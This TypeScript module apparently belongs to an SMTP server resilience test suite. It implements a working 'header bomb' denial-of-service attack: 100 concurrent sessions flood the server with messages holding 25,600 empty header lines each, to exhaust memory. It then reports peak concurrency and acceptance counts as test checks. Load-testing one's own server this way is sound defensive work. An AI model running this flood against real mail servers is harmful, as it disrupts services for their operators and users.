/**
 * Header bomb: 100 sessions at once, each sending messages whose header
 * is about 100 KB of empty `a:` header lines (25,600 of them), one message
 * after another until the window ends. Memory is what this attacks: every
 * header line the server keeps as an object costs far more than 4 bytes.
 *
 * @module
 */

import {
  type Attack,
  type AttackContext,
  type AttackOutcome,
  closeAll,
  command,
  openGreeted,
  readyWhenStarted,
  workers,
} from "../attack.ts";
import type { SmtpConn } from "../smtp_conn.ts";

const SESSIONS = 100;
const HOSTS = 10;
const LINES = 25_600;
const MAX_MESSAGES = 20;

const BOMB = new TextEncoder().encode(
  "Subject: header bomb\r\n" + "a:\r\n".repeat(LINES) + "\r\nbody\r\n.\r\n",
);

/** The attack. */
export const headerBomb: Attack = {
  name: "header-bomb",
  summary: `${SESSIONS} sessions at once, each message with ${LINES} empty header lines (100 KB)`,
  target: "main",
  async run(ctx: AttackContext): Promise<AttackOutcome> {
    const conns: SmtpConn[] = [];
    let open = 0;
    let peakOpen = 0;
    let inData = 0;
    let peakInData = 0;
    let refused = 0;
    let sent = 0;
    let acked = 0;
    const rejects = new Map<string, number>();
    const startedOne = readyWhenStarted(ctx, SESSIONS);
    const run = workers(SESSIONS, async (i) => {
      let counted = false;
      let marked = false;
      const mark = () => {
        if (!marked) startedOne();
        marked = true;
      };
      try {
        const o = await openGreeted(ctx, ctx.address(i % HOSTS));
        if (!o) return;
        conns.push(o.conn);
        if (!o.greeting.startsWith("220")) {
          refused++;
          return;
        }
        open++;
        counted = true;
        peakOpen = Math.max(peakOpen, open);
        await command(o.conn, "EHLO bomb.example");
        for (let m = 0; m < MAX_MESSAGES && !ctx.signal.aborted; m++) {
          if (!(await command(o.conn, "MAIL FROM:<bomb@evil.example>")).startsWith("250")) break;
          if (!(await command(o.conn, "RCPT TO:<u@hostile.example>")).startsWith("250")) break;
          if (!(await command(o.conn, "DATA")).startsWith("354")) break;
          inData++;
          peakInData = Math.max(peakInData, inData);
          const wrote = o.conn.write(BOMB);
          mark();
          await wrote;
          sent++;
          const r = await o.conn.reply(30_000);
          inData--;
          const id = /queued as (\S+)/.exec(r)?.[1];
          if (r.startsWith("250") && id) {
            acked++;
            ctx.ledger.ack(id, Date.now(), "header-bomb");
          } else if (!ctx.signal.aborted) {
            const key = r.slice(0, 3) || "none";
            rejects.set(key, (rejects.get(key) ?? 0) + 1);
            if (!r) break;
          } else break;
        }
      } finally {
        mark();
        if (counted) open--;
      }
    });
    await ctx.ended;
    closeAll(conns);
    await run;
    const concurrent = Math.max(peakOpen, peakInData);
    return {
      checks: [{
        name: "100 concurrent bomb sessions",
        ok: peakOpen >= 90,
        detail: `${peakOpen} sessions open at once (${peakInData} in DATA at once); ` +
          "the legitimate stream holds up to 6 of the 100 slots",
      }],
      notes: [
        `${concurrent} concurrent; ${refused} refused; ${sent} bombs sent, ${acked} acknowledged` +
        (rejects.size
          ? `, replies otherwise: ${[...rejects].map(([k, v]) => `${k} x${v}`).join(", ")}`
          : ""),
      ],
    };
  },
};
